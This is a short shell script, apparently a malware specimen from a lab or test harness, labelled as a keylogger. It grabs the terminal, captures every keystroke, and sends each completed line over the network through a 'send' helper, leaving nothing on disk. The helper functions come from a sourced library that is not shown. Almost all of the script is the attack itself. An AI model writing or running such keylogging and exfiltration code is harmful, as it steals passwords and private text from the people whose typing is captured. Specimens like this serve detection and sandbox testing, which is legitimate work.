# Keylogger: each typed line sent to the network (the host's sink), nothing on disk.
. /etc/enmei/specimens/lib.sh
cur=""
log_key() {
    if [ -z "$1" ]; then
        echo "k=$cur" | send &
        cur=""
    else
        cur="$cur$1"
    fi
}
take_tty
each_key log_key
